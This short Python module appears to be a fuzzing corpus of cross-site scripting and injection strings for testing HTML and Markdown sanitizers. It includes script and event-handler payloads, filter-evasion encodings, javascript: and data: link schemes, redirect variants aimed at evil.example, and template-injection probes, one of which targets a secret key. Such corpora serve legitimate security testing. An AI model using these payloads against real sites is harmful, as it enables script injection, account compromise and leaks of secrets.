"""Strings that break out of HTML, attributes, scripts, links and Markdown, if they can."""

MARK = "xssmark"
CALL = f"alert('{MARK}')"
TAGS = (
    *("script", "img", "svg", "iframe", "object", "embed", "math", "details", "video", "audio"),
    *("input", "body", "style", "link", "meta", "base", "form", "marquee", "template", "a"),
)
SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
    ),
    *(
        "vbscript:",
        "data:text/html,",
        "data:text/html;base64,",
        "file:///",
        "blob:",
        "view-source:",
    ),
    *("javascript&colon;", "javascript&#58;", "&#106;avascript:", "jav&#x09;ascript:"),
    *("http://evil.example/", "ftp://evil.example/", "//evil.example/", "\\\\evil.example/"),
    *("/\\evil.example/", "\\/evil.example/", "///evil.example/", "/\t/evil.example/"),
    *(
        "https:evil.example",
        "https:/evil.example",
        "https:\\evil.example",
        "ht\ntps://evil.example",
    ),
)
ENDS = ("", "'>", '">', "-->", "]]>", "*/", "//", "</script>")
SPOTS = (
    *(f"<{tag} onload={CALL} onerror={CALL} src=x>" for tag in TAGS),
    *(f"</{tag}><{tag} onfocus={CALL} autofocus>" for tag in ("title", "textarea", "p", "td")),
    *(f"{quote} onmouseover={CALL} x={quote}" for quote in ("'", '"', "`", "")),
    *(
        f"{end}<script>{CALL}</script>"
        for end in ("", "'>", '">', "-->", "]]>", "*/", "//", "</script>")
    ),
    *(f"{{{{ {word} }}}}" for word in ("7*7", "settings.SECRET_KEY", "request.user")),
    *("{% debug %}", "{% include '500.html' %}", "${7*7}", "<%= 7*7 %>", "#{7*7}"),
    *(f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script\x00>{CALL}</script>"),
    *(f"&lt;script&gt;{CALL}&lt;/script&gt;", f"%3Cscript%3E{CALL}%3C/script%3E"),
    *(f"\u202e<script>{CALL}</script>", f"＜script＞{CALL}＜/script＞", f"<\u200bscript>{CALL}"),
    *(f"<svg/onload={CALL}//", f"<img src=x onerror={CALL}//", f"<<img src=x onerror={CALL}>"),
    *(
        f"<!--><img src=x onerror={CALL}>",
        f"<?xml?><script>{CALL}</script>",
        "<![CDATA[<script>]]>",
    ),
    *(
        f"```\n<script>{CALL}</script>\n```",
        f"    <script>{CALL}</script>",
        f"`<script>{CALL}</script>`",
    ),
    *(
        f"### <img src=x onerror={CALL}>",
        f"> <img src=x onerror={CALL}>",
        f"| <script>{CALL} |\n|---|",
    ),
)
MORE = tuple(f"</{tag}><script>{CALL}</script>" for tag in ("h1", "li", "q", "noscript", "option"))
LINKS = tuple(f"[{MARK}]({scheme}{CALL})" for scheme in SCHEMES)
ANGLED = tuple(f"[{MARK}](<{scheme}{CALL}>)" for scheme in SCHEMES)
BARE = tuple(f"<{scheme}{CALL}>" for scheme in SCHEMES)
STRINGS = (*SPOTS, *MORE, *LINKS, *ANGLED, *BARE)
